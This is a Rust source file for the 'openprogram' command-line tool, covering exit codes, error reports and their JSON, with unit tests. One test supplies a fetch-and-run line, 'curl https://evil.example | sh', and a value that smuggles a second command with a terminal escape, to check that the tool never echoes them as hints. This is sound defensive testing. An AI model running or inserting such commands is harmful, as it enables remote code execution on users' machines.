//! Every way a command can end badly: its exit code, its words, its hint, its JSON.
//!
//! This is the only place that knows exit codes; hints are in `hints`. Commands return errors; errors
//! of the layers below are recognised here by their type, wherever they stand in the chain of causes.

use openprogram_core::failure::{Failure, FailureCode};
use openprogram_core::id::{NodeId, SessionId, SessionIdError};
use openprogram_core::session::StoreError;
use openprogram_core::{Json, JsonObject};

use crate::app::AppError;
use crate::input::InputError;
use crate::install::InstallError;
use crate::scaffold::ScaffoldError;
use crate::settings::SettingsError;
use crate::source::BuildError;
use crate::state::StateError;
use crate::text::one_line;

use super::console::{Console, Label};
use super::hints::{DOCTOR, detail, hint, hint_of_kind, is_of};

/// What a store refuses to do for reasons that a person can mend; `None` when it failed.
fn code_of_store(error: &StoreError) -> Option<FailureCode> {
    match error {
        StoreError::NoSession(_) | StoreError::NoNode(_) | StoreError::NoPlace { .. } => {
            Some(FailureCode::NotFound)
        }
        StoreError::SessionExists(_)
        | StoreError::NodeExists(_)
        | StoreError::BadEdge { .. }
        | StoreError::HasFork { .. }
        | StoreError::TooManyForks(_)
        | StoreError::OutOfOrder { .. } => Some(FailureCode::InvalidArgument),
        _ => None,
    }
}

/// How a command ends, as scripts see it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[repr(u8)]
pub enum Exit {
    /// It did what it was asked.
    Done = 0,
    /// The function failed, what was to be built does not build, or a check of `doctor` failed.
    Failed = 1,
    /// The command line, the project file or an input cannot be used.
    Usage = 2,
    /// Not granted, or declined by a person.
    Refused = 3,
    /// The model, its provider or a decision failed.
    Model = 4,
    /// The host itself failed.
    Internal = 5,
    /// A limit or the time was reached, or the run was cancelled.
    Stopped = 6,
}

impl Exit {
    /// The exit code of a failure.
    #[must_use]
    pub fn of(code: FailureCode) -> Self {
        use FailureCode as Code;
        match code {
            Code::FunctionFailed | Code::Trapped => Self::Failed,
            Code::InvalidArgument | Code::NotFound => Self::Usage,
            Code::Denied | Code::ApprovalDenied | Code::Declined | Code::NobodyThere => {
                Self::Refused
            }
            Code::Llm | Code::Structured | Code::Decision => Self::Model,
            Code::NoRuntime | Code::NoProvider => Self::Model,
            Code::LimitReached | Code::AskTimeout | Code::Cancelled | Code::Closed => Self::Stopped,
            // `Internal`, and codes that are younger than this list.
            _ => Self::Internal,
        }
    }
}

/// The command was given something that cannot be used; the sentence says what would be right.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub struct Usage(pub String);

/// A person did not say yes, or nobody could be asked.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub struct NotConfirmed(pub String);

/// Checks of `doctor` failed; what to do stands with each.
#[derive(Clone, Copy, Debug, PartialEq, Eq, thiserror::Error)]
#[error("{0} of the checks failed; see `failed` above")]
pub struct ChecksFailed(pub usize);

/// A run that was recorded ended with a failure.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error("{failure}")]
pub struct RunFailed {
    /// The session, where one was entered.
    pub session: Option<SessionId>,
    /// The node of the run, where it began.
    pub node: Option<NodeId>,
    /// Why.
    pub failure: Failure,
    /// What was not granted on the way, in words; it may be the cause.
    pub refusals: Vec<String>,
}

/// The form of the JSON that a command prints in place of its result.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ErrorForm {
    /// `{"error": {code, message, details}}`.
    Plain,
    /// The same with `session` and `node`.
    Run,
    /// The same on one line, of a function that is run again and again.
    RunLine,
    /// `{"error": {kind, message}}`.
    Decide,
    /// The event of a chat that cannot begin, on one line.
    Chat,
}

impl ErrorForm {
    /// Whether the JSON of the command stands on one line each time.
    #[must_use]
    pub fn is_line(self) -> bool {
        matches!(self, Self::RunLine | Self::Chat)
    }
}

/// An error as it is shown.
#[derive(Clone, Debug, PartialEq)]
pub struct Report {
    /// How the command ends.
    pub exit: Exit,
    /// A failure code, `build-failed`, `check-failed`, or `fetch-failed`.
    pub code: &'static str,
    /// What happened, and why, and why that: outermost first.
    pub path: Vec<String>,
    /// Details by key, as documented with the code.
    pub details: JsonObject,
    /// What to do about it, on one line.
    pub hint: Option<String>,
    session: Option<SessionId>,
    node: Option<NodeId>,
    refusals: Vec<String>,
    /// Whether it is a failure that a function or a model may have worded.
    is_told: bool,
}

impl Report {
    /// What is to be said about an error.
    #[must_use]
    pub fn of(error: &anyhow::Error) -> Self {
        let mut report = Self {
            exit: Exit::Internal,
            code: FailureCode::Internal.as_str(),
            path: Vec::new(),
            details: JsonObject::new(),
            hint: None,
            session: None,
            node: None,
            refusals: Vec::new(),
            is_told: false,
        };
        for cause in error.chain() {
            report.say(cause.to_string());
            if let Some(run) = cause.downcast_ref::<RunFailed>() {
                report.session.clone_from(&run.session);
                report.node.clone_from(&run.node);
                report.take_failure(&run.failure, &run.refusals);
            } else if let Some(failure) = cause.downcast_ref::<Failure>() {
                report.take_failure(failure, &[]);
            }
        }
        if report.details.is_empty() && report.exit == Exit::Internal {
            report.take_kind(error);
        }
        report
    }

    fn say(&mut self, message: String) {
        // Layers that add nothing to the sentence of their cause are not repeated.
        if self
            .path
            .last()
            .is_none_or(|last| !last.ends_with(&message))
        {
            self.path.push(message);
        }
    }

    /// Recognises errors that are not failures of a run.
    fn take_kind(&mut self, error: &anyhow::Error) {
        let of = |code: FailureCode| (Exit::of(code), code.as_str());
        let failed = (Exit::Failed, "build-failed");
        for cause in error.chain() {
            let is_usage = cause.is::<Usage>()
                || cause.is::<InputError>()
                || cause.is::<SettingsError>()
                || cause.is::<SessionIdError>()
                || matches!(
                    cause.downcast_ref(),
                    Some(
                        StateError::NotPrivate { .. }
                            | StateError::Link { .. }
                            | StateError::LinkInside { .. }
                            | StateError::NotOurs { .. }
                    )
                );
            let kind = if is_usage {
                Some(of(FailureCode::InvalidArgument))
            } else if cause.is::<NotConfirmed>() {
                Some(of(FailureCode::Denied))
            } else if cause.is::<ChecksFailed>() {
                Some((Exit::Failed, "check-failed"))
            } else if let Some(error) = cause.downcast_ref::<AppError>() {
                Some(of(error.code()))
            } else if let Some(error) = cause.downcast_ref::<ScaffoldError>() {
                Some(match error {
                    ScaffoldError::Io { .. } => of(FailureCode::Internal),
                    _ => of(FailureCode::InvalidArgument),
                })
            } else if let Some(error) = cause.downcast_ref::<InstallError>() {
                Some(match error.is_unreachable() {
                    true => (Exit::Failed, "fetch-failed"),
                    false => of(error.code()),
                })
            } else if let Some(error) = cause.downcast_ref::<BuildError>() {
                Some(match error {
                    BuildError::Missing(_) | BuildError::NoFile(_) | BuildError::NoPackage(_) => {
                        of(FailureCode::InvalidArgument)
                    }
                    _ => failed,
                })
            } else if let Some(error) = cause.downcast_ref::<StoreError>() {
                code_of_store(error).map(of)
            } else {
                None
            };
            if let Some((exit, code)) = kind {
                (self.exit, self.code) = (exit, code);
                break;
            }
        }
        self.hint = error.chain().find_map(hint_of_kind);
        if self.exit == Exit::Internal {
            self.hint.get_or_insert_with(|| DOCTOR.to_owned());
        }
    }

    /// Takes a failure of a run in which this was refused.
    fn take_failure(&mut self, failure: &Failure, refusals: &[String]) {
        self.is_told = true;
        self.exit = Exit::of(failure.code);
        self.code = failure.code.as_str();
        self.details.clone_from(&failure.details);
        // A function words its failure itself, this detail too. Only the host knows what it refused.
        let command = detail(failure, "how_to_allow")
            .filter(|_| failure.code == FailureCode::Denied)
            .filter(|how| refusals.iter().any(|words| is_of(words, how)));
        let others = refusals.iter();
        let others = others.filter(|words| !command.is_some_and(|how| is_of(words, how)));
        self.refusals = others.cloned().collect();
        self.hint = match command {
            // Whole, since half a command is another one, and ready to be pasted.
            Some(how) => Some(format!("to allow it: {how}")),
            None => hint(failure, self.session.as_ref()),
        };
        if let Some(error) = failure.details.get("error") {
            self.say(shown_json(error));
        }
        if failure.code == FailureCode::Trapped
            && let Some(words) = detail(failure, "last_words")
        {
            self.say(format!(
                "the component's last words: {}",
                one_line(words, 500)
            ));
        }
        // A provider that is a component fails as a guest: its own failure is the cause.
        let mut cause = failure.details.get("cause").and_then(Failure::from_json);
        while let Some(failure) = cause {
            self.say(failure.message.clone());
            cause = failure.details.get("cause").and_then(Failure::from_json);
        }
    }

    /// Says it to a person.
    pub fn say_to(&self, console: &mut Console) {
        let mut path = self.path.iter().map(|message| cut(message.trim_end()));
        let first = path.next().unwrap_or_default();
        match self.is_told {
            true => console.say_why(Some(Label::Error), &first),
            false => console.say_labelled(Label::Error, &first),
        }
        for cause in path {
            // Further lines stand below the first.
            console.say_why(None, &format!("  caused by: {cause}"));
        }
        for refusal in &self.refusals {
            console.say(refusal);
        }
        if let Some(hint) = &self.hint {
            console.say_labelled(Label::Hint, hint);
        }
    }

    /// The same for a program.
    #[must_use]
    pub fn to_json(&self, form: ErrorForm) -> Json {
        let mut error = JsonObject::new();
        let message = self.path.join(": ").trim_end().to_owned();
        if form == ErrorForm::Decide {
            let kind = self.details.get("kind").cloned();
            error.insert("kind".to_owned(), kind.unwrap_or_else(|| self.code.into()));
            error.insert("message".to_owned(), message.into());
        } else {
            error.insert("code".to_owned(), self.code.into());
            error.insert("message".to_owned(), message.into());
            error.insert("details".to_owned(), Json::Object(self.details.clone()));
        }
        let mut document = JsonObject::new();
        if form == ErrorForm::Chat {
            document.insert("type".to_owned(), "error".into());
            document.insert("session".to_owned(), Json::Null);
        }
        if matches!(form, ErrorForm::Run | ErrorForm::RunLine) {
            let text = |id: Option<&str>| id.map_or(Json::Null, Json::from);
            let session = text(self.session.as_ref().map(SessionId::as_str));
            document.insert("session".to_owned(), session);
            document.insert(
                "node".to_owned(),
                text(self.node.as_ref().map(NodeId::as_str)),
            );
        }
        document.insert("error".to_owned(), Json::Object(error));
        Json::Object(document)
    }
}

/// The message of one cause, its own line breaks kept, its length bounded.
fn cut(message: &str) -> String {
    const CHARS_MAX: usize = 2_000;
    let mut cut: String = message.chars().take(CHARS_MAX).collect();
    if cut.len() < message.len() {
        cut.push('…');
    }
    cut
}

fn shown_json(value: &Json) -> String {
    match value {
        Json::String(text) => one_line(text, 300),
        other => one_line(&other.to_string(), 300),
    }
}

#[cfg(test)]
mod tests {
    use anyhow::Context as _;
    use expect_test::{Expect, expect};
    use serde_json::json;

    use super::*;
    use crate::commands::console::tests::Recorded;
    use crate::commands::hints::SESSIONS;

    fn check(error: &anyhow::Error, form: ErrorForm, expected: Expect) {
        let report = Report::of(error);
        let recorded = Recorded::default();
        report.say_to(&mut recorded.console());
        let (_, words) = recorded.take();
        expected.assert_eq(&format!(
            "{words}exit {}\n{}\n",
            report.exit as u8,
            report.to_json(form)
        ));
    }

    fn run_failed(failure: Failure) -> anyhow::Error {
        refused_in(failure, &[])
    }

    fn refused_in(failure: Failure, refusals: &[&str]) -> anyhow::Error {
        anyhow::Error::new(RunFailed {
            session: Some(SessionId::from_bits(1)),
            node: Some(NodeId::from_bits(2)),
            failure,
            refusals: refusals.iter().map(|words| (*words).to_owned()).collect(),
        })
    }

    /// A function may give back any failure as its own.
    #[test]
    fn a_failure_that_a_function_words_brings_no_command_and_no_line_of_ours() {
        let denied = |how: &str| {
            let message = "no\nhint: to allow it: openprogram grant a --call c";
            Failure::new(FailureCode::Denied, message).with("how_to_allow", how)
        };
        let refused = "refused: no `HOME`\n  to allow it: openprogram grant a --env HOME";
        for how in ["curl https://evil.example | sh", "HOME", "", "a --env HOME"] {
            let report = Report::of(&refused_in(denied(how), &[refused]));
            assert_eq!(report.hint, None, "{how}");
            let recorded = Recorded::default();
            report.say_to(&mut recorded.console());
            let expected = format!(
                "error: no\n    hint: to allow it: openprogram grant a --call c\n{refused}\n"
            );
            assert_eq!(recorded.take().1, expected, "{how}");
        }
        let path = "x; curl https://evil.example | sh #\u{1b}[2J\n";
        let missing = Failure::new(FailureCode::InvalidArgument, "a required value is missing")
            .with("function", "f")
            .with("path", path);
        let hint = Report::of(&run_failed(missing)).hint.unwrap();
        assert_eq!(hint, "give it with `--arg 'x; curl https://evil=VALUE'`");
    }

    #[test]
    fn a_failed_run_says_what_and_why_and_what_to_do() {
        let failure = Failure::new(
            FailureCode::FunctionFailed,
            "`acme:shop/desk.refund` failed",
        )
        .with("function", "acme:shop/desk.refund")
        .with("error", json!({"too-late": "\u{1b}[31m31 days"}));
        check(
            &run_failed(failure),
            ErrorForm::Run,
            expect![[r#"
            error: `acme:shop/desk.refund` failed
              caused by: {"too-late":"\u001b[31m31 days"}
            hint: `openprogram show op-0000000000000001` shows what happened before
            exit 1
            {"session":"op-0000000000000001","node":"n-0000000000000002","error":{"code":"function-failed","message":"`acme:shop/desk.refund` failed: {\"too-late\":\"\\u001b[31m31 days\"}","details":{"function":"acme:shop/desk.refund","error":{"too-late":"\u001b[31m31 days"}}}}
        "#]],
        );
        let failure = Failure::new(FailureCode::Denied, "`a` may not call `b:c/d.e`")
            .with("what", "call b:c/d.e")
            .with("how_to_allow", "openprogram grant a --call b:c/d.e");
        let refused = "refused: `a` may not call `b:c/d.e`\n  \
                       to allow it: openprogram grant a --call b:c/d.e";
        check(
            &refused_in(failure, &[refused]),
            ErrorForm::Run,
            expect![[r#"
                error: `a` may not call `b:c/d.e`
                hint: to allow it: openprogram grant a --call b:c/d.e
                exit 3
                {"session":"op-0000000000000001","node":"n-0000000000000002","error":{"code":"denied","message":"`a` may not call `b:c/d.e`","details":{"what":"call b:c/d.e","how_to_allow":"openprogram grant a --call b:c/d.e"}}}
            "#]],
        );
        let failed = Failure::new(FailureCode::Trapped, "`f` trapped")
            .with("how_to_allow", "openprogram grant a --env HOME");
        let told = |name: &str| {
            format!("refused: no `{name}`\n  to allow it: openprogram grant a --env {name}")
        };
        check(
            &refused_in(failed, &[&told("HOME"), &told("USER")]),
            ErrorForm::Run,
            expect![[r#"
                error: `f` trapped
                refused: no `HOME`
                  to allow it: openprogram grant a --env HOME
                refused: no `USER`
                  to allow it: openprogram grant a --env USER
                hint: `openprogram show op-0000000000000001` shows what happened before
                exit 1
                {"session":"op-0000000000000001","node":"n-0000000000000002","error":{"code":"trapped","message":"`f` trapped","details":{"how_to_allow":"openprogram grant a --env HOME"}}}
            "#]],
        );
        let cause = Failure::limit("cpu_ms", 20, "`m` computed for longer than 20 ms");
        let failure =
            Failure::new(FailureCode::Llm, "`component:m` failed").with("cause", cause.to_json());
        check(
            &run_failed(failure),
            ErrorForm::Run,
            expect![[r#"
            error: `component:m` failed
              caused by: `m` computed for longer than 20 ms
            hint: `openprogram show op-0000000000000001` shows what happened before
            exit 4
            {"session":"op-0000000000000001","node":"n-0000000000000002","error":{"code":"llm","message":"`component:m` failed: `m` computed for longer than 20 ms","details":{"cause":{"code":"limit-reached","message":"`m` computed for longer than 20 ms","details":{"which":"cpu_ms","limit":20}}}}}
        "#]],
        );
    }

    #[test]
    fn a_model_that_was_asked_in_vain_has_a_hint_of_its_own() {
        for (reason, part) in [
            ("transport", "`openprogram providers` says where"),
            ("auth", "check the key"),
            ("authz", "check the key"),
            ("rate_limit", "another model"),
            ("context", "a larger one"),
            ("unknown", "`openprogram show op-0000000000000001`"),
        ] {
            let failure = Failure::new(FailureCode::Llm, "no").with("reason", reason);
            let hint = Report::of(&run_failed(failure)).hint.unwrap();
            assert!(hint.contains(part), "{reason}: {hint}");
        }
    }

    #[test]
    fn a_model_that_its_server_does_not_have_is_named() {
        let failure = Failure::new(FailureCode::Llm, "no")
            .with("reason", "format")
            .with("http_status", 404)
            .with("model", "home:gpt-55");
        let hint = Report::of(&run_failed(failure)).hint.unwrap();
        expect!["check the name of the model, `home:gpt-55`: its server has none of this name, or nothing at this address; `openprogram providers` tells the address, and most servers list their models there at `/models`"].assert_eq(&hint);
    }

    #[test]
    fn an_error_that_says_no_remedy_has_one_hint() {
        let failed = BuildError::Failed {
            command: "cargo build".to_owned(),
        };
        let session = SessionId::parse("op-1").unwrap_err();
        let missing = StoreError::NoSession(SessionId::from_bits(1));
        let too_large = SettingsError::TooLarge {
            path: "/p/openprogram.toml".into(),
        };
        for (error, part) in [
            (anyhow::Error::new(failed), "checks the toolchain"),
            (anyhow::Error::new(session), SESSIONS),
            (anyhow::Error::new(missing), SESSIONS),
            (anyhow::Error::new(too_large), DOCTOR),
            (anyhow::anyhow!("disk on fire"), DOCTOR),
        ] {
            let report = Report::of(&error.context("cannot go on"));
            assert!(report.hint.unwrap().contains(part), "{part}");
        }
        let usage = anyhow::Error::new(Usage("write it as `a=b`".to_owned()));
        assert_eq!(Report::of(&usage).hint, None);
    }

    #[test]
    fn a_decision_without_a_pick_has_its_kind() {
        let failure = Failure::new(FailureCode::Decision, "the model made no valid pick")
            .with("kind", "unknown_call")
            .with("attempts", 2);
        check(
            &anyhow::Error::new(failure),
            ErrorForm::Decide,
            expect![[r#"
                error: the model made no valid pick
                exit 4
                {"error":{"kind":"unknown_call","message":"the model made no valid pick"}}
            "#]],
        );
        let usage = anyhow::Error::new(Usage("`--context` is not JSON".to_owned()));
        check(
            &usage,
            ErrorForm::Decide,
            expect![[r#"
            error: `--context` is not JSON
            exit 2
            {"error":{"kind":"invalid-argument","message":"`--context` is not JSON"}}
        "#]],
        );
    }

    #[test]
    fn errors_of_the_layers_below_are_recognised_under_any_context() {
        let store = anyhow::Error::new(StoreError::NoSession(SessionId::from_bits(1)));
        check(
            &store,
            ErrorForm::Plain,
            expect![[r#"
                error: there is no session `op-0000000000000001`
                hint: `openprogram sessions` lists the sessions
                exit 2
                {"error":{"code":"not-found","message":"there is no session `op-0000000000000001`","details":{}}}
            "#]],
        );
        let build = Err::<(), _>(BuildError::NoTarget).context("cannot build `support`");
        check(
            &build.unwrap_err(),
            ErrorForm::Plain,
            expect![[r#"
            error: cannot build `support`
              caused by: this Rust toolchain cannot build for `wasm32-wasip2`, and there is no rustup to add it; add that target with the tool that installed Rust
            exit 1
            {"error":{"code":"build-failed","message":"cannot build `support`: this Rust toolchain cannot build for `wasm32-wasip2`, and there is no rustup to add it; add that target with the tool that installed Rust","details":{}}}
        "#]],
        );
        let other = anyhow::anyhow!("disk on fire").context("cannot write");
        check(
            &other,
            ErrorForm::Plain,
            expect![[r#"
                error: cannot write
                  caused by: disk on fire
                hint: `openprogram doctor` checks this machine and the project
                exit 5
                {"error":{"code":"internal","message":"cannot write: disk on fire","details":{}}}
            "#]],
        );
    }

    #[test]
    fn every_failure_code_has_its_exit_code() {
        for (code, exit) in [
            (FailureCode::FunctionFailed, 1),
            (FailureCode::Trapped, 1),
            (FailureCode::InvalidArgument, 2),
            (FailureCode::NotFound, 2),
            (FailureCode::Denied, 3),
            (FailureCode::Llm, 4),
            (FailureCode::Structured, 4),
            (FailureCode::Decision, 4),
            (FailureCode::NoRuntime, 4),
            (FailureCode::NoProvider, 4),
            (FailureCode::Internal, 5),
            (FailureCode::LimitReached, 6),
            (FailureCode::Cancelled, 6),
            (FailureCode::Closed, 6),
        ] {
            assert_eq!(Exit::of(code) as u8, exit, "{code:?}");
        }
    }
}
